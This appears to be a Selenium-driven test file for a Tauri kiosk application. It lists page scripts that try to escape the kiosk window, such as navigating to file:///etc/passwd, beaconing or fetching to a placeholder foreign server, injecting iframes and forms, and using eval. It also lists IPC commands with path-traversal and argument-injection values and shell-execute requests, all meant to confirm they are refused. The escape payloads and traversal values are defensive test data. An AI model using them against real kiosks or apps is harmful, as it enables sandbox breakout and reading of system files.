import { error } from 'selenium-webdriver';
import type { KioskWindow } from './kiosk';

/** What the engine throws when it refuses something; anything else is a mistake in the attempt. */
const REFUSALS = ['SecurityError', 'NotAllowedError', 'NotSupportedError', 'EvalError'];

/** What WebKit's driver says when the page went away before it had answered. */
const CUT_SHORT = 'Could not parse script result';

/**
 * Tries a way out in the window where the driver stands. An attempt counts when it ran, was refused by
 * the engine, or took the window from the driver; one that is broken fails.
 */
export async function attempt(kiosk: KioskWindow, script: string, elsewhere: string) {
  const tried = kiosk.driver.executeScript<string>(
    `try { ${script.replaceAll('ELSEWHERE', elsewhere)}; return 'ran'; }
     catch (problem) { return problem.name; }`,
  );
  const outcome = await tried.catch((problem: unknown) => {
    // A window that closes itself, or a page that goes away, answers the driver nothing, or cuts its
    // answer short when that happens in the middle of it.
    if (problem instanceof error.NoSuchWindowError) return 'ran';
    if (problem instanceof error.WebDriverError && problem.message === CUT_SHORT) return 'ran';
    throw problem;
  });
  if (outcome !== 'ran' && !REFUSALS.includes(outcome))
    throw new Error(`the attempt is broken: ${outcome} in ${script}`);
}

/** Ways out of a window that scripts of a page can try; `ELSEWHERE` is a foreign server. */
export const ESCAPES: [name: string, script: string][] = [
  ...[
    'ELSEWHERE/',
    'file:///etc/passwd',
    'file://localhost/etc/passwd',
    'about:config',
    'about:inspector',
    'data:text/html,<h1>out</h1>',
    'javascript:void(document.title="out")',
    'blob:tauri://localhost/0',
    'mailto:a@example.org',
    'tel:+12115551234',
    'sms:+12115551234',
    'ftp://127.0.0.1/',
    'view-source:tauri://localhost/',
    'webkit://gpu',
    'inspector://x',
    'chrome://settings',
    'tauri://elsewhere/',
    'tauri://localhost.example.org/',
    'resume://localhost/x',
    'ipc://localhost/settings',
    'asset://localhost/etc/passwd',
    'http://tauri.localhost.example.org/',
    'intent://x#Intent;end',
    'ms-settings:',
    'steam://run/1',
  ].flatMap((address): [string, string][] => [
    [`link ${address}`, link(address)],
    [`new window ${address}`, `open(${JSON.stringify(address)}, '_blank')`],
    [
      `frame ${address}`,
      `document.body.append(Object.assign(document.createElement('iframe'), { src: ${JSON.stringify(address)} }))`,
    ],
  ]),
  ['replace', `location.replace('ELSEWHERE/')`],
  ['assign', `location.href = 'ELSEWHERE/'`],
  ['target=_top', link('ELSEWHERE/', { target: '_top' })],
  ['target=_blank', link('ELSEWHERE/', { target: '_blank' })],
  ['download', link('/favicon.svg', { download: 'escape.txt' })],
  [
    'blob download',
    `const it = URL.createObjectURL(new Blob(['x'])); Object.assign(document.createElement('a'), { href: it, download: 'escape.txt' }).click()`,
  ],
  ['data download', link('data:application/octet-stream,x', { download: 'escape.txt' })],
  [
    'form',
    `const it = Object.assign(document.createElement('form'), { action: 'ELSEWHERE/', method: 'post' }); document.body.append(it); it.submit()`,
  ],
  [
    'form in a new window',
    `const it = Object.assign(document.createElement('form'), { action: 'ELSEWHERE/', target: '_blank' }); document.body.append(it); it.submit()`,
  ],
  [
    'refresh',
    `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=ELSEWHERE/">')`,
  ],
  ['base', `document.head.insertAdjacentHTML('beforeend', '<base href="ELSEWHERE/">')`],
  [
    'frame of a text',
    `document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<script>top.location="ELSEWHERE/"</script>' }))`,
  ],
  [
    'frame that asks for commands',
    `const it = document.createElement('iframe'); it.srcdoc = '<script>window.__TAURI_INTERNALS__?.invoke("settings").then(() => parent.document.title = "out")</script>'; document.body.append(it)`,
  ],
  [
    'object',
    `document.body.append(Object.assign(document.createElement('object'), { data: 'file:///etc/passwd' }))`,
  ],
  [
    'embed',
    `document.body.append(Object.assign(document.createElement('embed'), { src: 'ELSEWHERE/' }))`,
  ],
  ['picture', `new Image().src = 'ELSEWHERE/'`],
  ['fetch', `fetch('ELSEWHERE/', { mode: 'no-cors' }).catch(() => undefined)`],
  [
    'XMLHttpRequest',
    `const it = new XMLHttpRequest(); it.open('GET', 'ELSEWHERE/'); try { it.send() } catch {}`,
  ],
  ['WebSocket', `try { new WebSocket('ELSEWHERE/'.replace('http', 'ws')) } catch {}`],
  ['EventSource', `new EventSource('ELSEWHERE/')`],
  ['beacon', `navigator.sendBeacon('ELSEWHERE/', 'x')`],
  ['import', `import('ELSEWHERE/x.js').catch(() => undefined)`],
  [
    'script',
    `document.body.append(Object.assign(document.createElement('script'), { src: 'ELSEWHERE/x.js' }))`,
  ],
  [
    'inline script',
    `document.body.append(Object.assign(document.createElement('script'), { textContent: 'document.title = "out"' }))`,
  ],
  ['eval', `try { globalThis['ev' + 'al']('document.title = "out"') } catch {}`],
  ['Function', `try { Function('document.title = "out"')() } catch {}`],
  ['timer of a text', `setTimeout('document.title = "out"', 0)`],
  [
    'style from elsewhere',
    `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'ELSEWHERE/' }))`,
  ],
  ['worker', `try { new Worker(URL.createObjectURL(new Blob(['fetch("ELSEWHERE/")']))) } catch {}`],
  ['service worker', `navigator.serviceWorker?.register('/viewer.js').catch(() => undefined)`],
  ['print', `print()`],
  ['close', `close()`],
  ['move', `moveTo(900, 700)`],
  ['resize', `resizeTo(100, 100)`],
  ['stop', `stop()`],
  ['history back', `history.go(-50)`],
  ['history forward', `history.go(50)`],
  ['leave full screen', `document.exitFullscreen?.().catch(() => undefined)`],
  [
    'file dialog',
    `const it = Object.assign(document.createElement('input'), { type: 'file' }); document.body.append(it); it.click()`,
  ],
  ['file picker', `window.showOpenFilePicker?.().catch(() => undefined)`],
  ['protocol', `try { navigator.registerProtocolHandler?.('web+x', 'ELSEWHERE/?%s') } catch {}`],
  ['share', `navigator.share?.({ url: 'ELSEWHERE/' }).catch(() => undefined)`],
  ['camera', `navigator.mediaDevices?.getUserMedia({ video: true }).catch(() => undefined)`],
  ['place', `navigator.geolocation?.getCurrentPosition(() => undefined, () => undefined)`],
  ['notification', `window.Notification?.requestPermission?.()`],
  [
    'right button',
    `dispatchEvent(new MouseEvent('contextmenu', { bubbles: true, cancelable: true }))`,
  ],
  [
    'zoom',
    `dispatchEvent(new WheelEvent('wheel', { ctrlKey: true, deltaY: -500, bubbles: true }))`,
  ],
  [
    'dropped file',
    `document.body.dispatchEvent(new DragEvent('drop', { bubbles: true, cancelable: true, dataTransfer: new DataTransfer() }))`,
  ],
];

/** What a script of ours must not be able to ask of the shell. */
export const COMMANDS: [name: string, content: unknown][] = [
  ...[
    'window|close',
    'window|destroy',
    'window|set_fullscreen',
    'window|set_always_on_top',
    'window|minimize',
    'window|hide',
    'window|set_size',
    'window|create',
    'webview|create_webview_window',
    'webview|print',
    'webview|internal_toggle_devtools',
    'webview|set_webview_zoom',
    'webview|clear_all_browsing_data',
    'app|version',
    'path|resolve_directory',
    'event|listen',
    'event|emit',
    'process|exit',
    'process|restart',
    'shell|open',
    'shell|execute',
    'opener|open_url',
    'fs|read_file',
    'fs|read_dir',
    'dialog|open',
    'clipboard|read_text',
    'http|fetch',
  ].map((name): [string, unknown] => [
    `plugin:${name}`,
    { label: 'main', path: '/etc/passwd', url: 'ELSEWHERE/', program: 'xterm', value: false },
  ]),
  ['listing', { name: '../../etc/passwd' }],
  ['listing', { name: 7 }],
  ['open_resume', { name: '../../etc/passwd' }],
  ['open_outside', {}],
  ['upload_resume', { id: '/etc/passwd' }],
  ['speak', { text: 'x', language: '--version' }],
  ['speak', { text: ['x'], language: 'en' }],
  ['leave', { pin: '000000' }],
  ['leave', { pin: null }],
  ['count_page_view', { page: 'elsewhere' }],
  ['count_place_uses', { places: ['food.1a2b3c4'], kind: 'elsewhere' }],
  ['send_message', { message: { key: 'x' } }],
  ['nothing', {}],
];

function link(href: string, more: Record<string, string> = {}): string {
  return `const it = Object.assign(document.createElement('a'), ${JSON.stringify({ href, ...more })}); document.body.append(it); it.click()`;
}
